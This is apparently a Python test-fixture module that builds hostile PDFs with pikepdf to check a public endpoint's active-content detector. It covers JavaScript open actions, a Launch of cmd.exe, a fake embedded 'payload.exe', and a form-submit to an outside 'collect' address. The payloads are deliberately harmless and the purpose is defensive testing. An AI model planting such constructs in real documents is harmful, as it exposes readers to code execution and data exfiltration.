"""Hostile PDFs, made byte by byte or with pikepdf: the inputs a public endpoint must survive."""

from __future__ import annotations

import io
import re

import pikepdf

__all__ = ["ACTIVE_KINDS", "active_pdf", "active_traces", "internal_links_pdf", "many_updates", "plain_pdf"]


def plain_pdf(pages: int = 1, text: str = "scan") -> bytes:
    """A small, clean PDF with a classic xref table (no object streams): a stand-in for a scan."""
    pdf = pikepdf.new()
    for n in range(pages):
        content = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td ({text} {n + 1}) Tj ET".encode())
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        page = pikepdf.Page(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Page,
                MediaBox=[0, 0, 595, 842],
                Contents=content,
                Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
            )
        )
        pdf.pages.append(page)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=False)
    return out.getvalue()


def many_updates(base: bytes, updates: int) -> bytes:
    """``base`` with ``updates`` incremental updates appended, each redefining one new object and
    linking to the previous xref section (``/Prev``): a file with ``updates + 1`` revisions."""
    startxref = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    with pikepdf.open(io.BytesIO(base)) as pdf:
        number, generation = pdf.trailer.Root.objgen
        root = b"%d %d R" % (number, generation)
        size = int(pdf.trailer.Size)
    out = bytearray(base)
    if not out.endswith(b"\n"):
        out += b"\n"
    num = size  # one extra object, redefined by every update
    prev = startxref
    for n in range(updates):
        offset = len(out)
        out += b"%d 0 obj\n(update %d)\nendobj\n" % (num, n)
        xref = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (num, offset)
        out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (num + 1, root, prev, xref)
        prev = xref
    return bytes(out)


# -- active content, one kind per file --------------------------------------------------------------


def _js(pdf: pikepdf.Pdf, code: str = "app.alert('evidence');", *, stream: bool = False) -> pikepdf.Dictionary:
    body: pikepdf.Object = pdf.make_stream(code.encode()) if stream else pikepdf.String(code)
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=body)


def _action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **entries)


def _annot(pdf: pikepdf.Pdf, subtype: str, **entries: object) -> pikepdf.Object:
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{subtype}"), Rect=[72, 72, 200, 100], **entries
    )
    return pdf.make_indirect(annot)


def _add_annot(pdf: pikepdf.Pdf, annot: pikepdf.Object, page: int = 0) -> None:
    target = pdf.pages[page].obj
    if "/Annots" not in target:
        target.Annots = pikepdf.Array()
    target.Annots.append(annot)


def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    stream = pdf.make_stream(b"MZ\x90\x00 not really an executable", Type=pikepdf.Name.EmbeddedFile)
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=stream)
    )


def _widget(pdf: pikepdf.Pdf, **entries: object) -> pikepdf.Object:
    widget = _annot(pdf, "Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("field"), **entries)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
    return widget


def _build(kind: str, pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    if kind == "catalog_openaction_js":
        pdf.Root.OpenAction = _js(pdf)
    elif kind == "catalog_aa":
        pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf))
    elif kind == "page_aa":
        page.AA = pikepdf.Dictionary(O=_js(pdf))
    elif kind == "link_launch":
        _add_annot(pdf, _annot(pdf, "Link", A=_action("Launch", F=pikepdf.String("cmd.exe"))))
    elif kind == "link_uri":
        _add_annot(pdf, _annot(pdf, "Link", A=_action("URI", URI=pikepdf.String("http://198.51.100.9/x"))))
    elif kind == "link_gotor":
        _add_annot(pdf, _annot(pdf, "Link", A=_action("GoToR", F=pikepdf.String("other.pdf"), D=[0, pikepdf.Name.Fit])))
    elif kind == "link_gotoe":
        target = pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("payload.pdf"))
        _add_annot(pdf, _annot(pdf, "Link", A=_action("GoToE", T=target)))
    elif kind == "link_aa":
        _add_annot(pdf, _annot(pdf, "Link", AA=pikepdf.Dictionary(E=_js(pdf))))
    elif kind == "link_goto_next_js":  # an innocent GoTo that chains into JavaScript
        _add_annot(pdf, _annot(pdf, "Link", A=_action("GoTo", D=[page, pikepdf.Name.Fit], Next=_js(pdf))))
    elif kind == "widget_submitform":
        fs = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("http://198.51.100.9/collect"))
        _add_annot(pdf, _widget(pdf, A=_action("SubmitForm", F=fs)))
    elif kind == "widget_aa_importdata":
        _add_annot(pdf, _widget(pdf, AA=pikepdf.Dictionary(K=_action("ImportData", F=pikepdf.String("data.fdf")))))
    elif kind == "screen_rendition":
        _add_annot(pdf, _annot(pdf, "Screen", A=_action("Rendition", OP=0, JS=pikepdf.String("this.print();"))))
    elif kind == "names_javascript_stream":  # document JavaScript whose code hides in a stream
        tree = pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(_js(pdf, stream=True))])
        )
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)
    elif kind == "names_embeddedfiles":
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("payload.exe"), _embedded_file(pdf)]))
        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)
    elif kind == "file_attachment_annotation":
        _add_annot(pdf, _annot(pdf, "FileAttachment", FS=_embedded_file(pdf), Name=pikepdf.Name.PushPin))
    elif kind == "acroform_xfa":
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
        )
    elif kind == "outline_js":
        item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("目录"), A=_js(pdf, stream=True)))
        outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1))
        item.Parent = outlines
        pdf.Root.Outlines = outlines
    else:
        raise ValueError(kind)


ACTIVE_KINDS = (
    "catalog_openaction_js",
    "catalog_aa",
    "page_aa",
    "link_launch",
    "link_uri",
    "link_gotor",
    "link_gotoe",
    "link_aa",
    "link_goto_next_js",
    "widget_submitform",
    "widget_aa_importdata",
    "screen_rendition",
    "names_javascript_stream",
    "names_embeddedfiles",
    "file_attachment_annotation",
    "acroform_xfa",
    "outline_js",
)


def active_pdf(kind: str) -> bytes:
    """A two-page scan-like PDF carrying one kind of active content (:data:`ACTIVE_KINDS`)."""
    with pikepdf.open(io.BytesIO(plain_pdf(2, text="evidence"))) as pdf:
        _build(kind, pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def internal_links_pdf() -> bytes:
    """A clean control: a scan whose first page links to its second (a /Dest link and a /GoTo action)
    and opens at page 1 (/OpenAction destination)."""
    with pikepdf.open(io.BytesIO(plain_pdf(2, text="linked"))) as pdf:
        second = pdf.pages[1].obj
        _add_annot(pdf, _annot(pdf, "Link", Dest=[second, pikepdf.Name.Fit]))
        _add_annot(pdf, _annot(pdf, "Link", A=_action("GoTo", D=[second, pikepdf.Name.Fit])))
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


_ACTIVE_NAMES = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition"}


def active_traces(data: bytes) -> list[str]:
    """Every object of the file (reachable or not, and the direct objects inside each) that carries
    active content, by plain inspection — independent of the detector under test: /JS, a JavaScript/
    Launch/URI/SubmitForm/… action, /AA, /EmbeddedFile(s), /EF, /XFA, an /OpenAction that is an action
    other than GoTo, a FileAttachment or Screen annotation."""
    traces: list[str] = []

    def look(value: object, where: str) -> None:
        d = value.stream_dict if isinstance(value, pikepdf.Stream) else value
        if isinstance(d, pikepdf.Array):
            for item in d:
                if isinstance(item, pikepdf.Object) and not item.is_indirect:
                    look(item, where)
            return
        if not isinstance(d, pikepdf.Dictionary):
            return
        for key in ("/JS", "/AA", "/EF", "/XFA", "/EmbeddedFiles", "/JavaScript"):
            if key in d:
                traces.append(f"{where} {key}")
        if str(d.get("/S", "")) in _ACTIVE_NAMES or str(d.get("/Type", "")) == "/EmbeddedFile":
            traces.append(f"{where} {d.get('/S', d.get('/Type'))}")
        if str(d.get("/Subtype", "")) in ("/FileAttachment", "/Screen"):
            traces.append(f"{where} {d.get('/Subtype')}")
        action = d.get("/OpenAction")
        if isinstance(action, pikepdf.Dictionary) and str(action.get("/S", "")) != "/GoTo":
            traces.append(f"{where} /OpenAction")
        for item in d.values():
            if isinstance(item, pikepdf.Object) and not item.is_indirect:
                look(item, where)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            look(obj, str(obj.objgen))
        look(pdf.trailer, "trailer")
    return traces
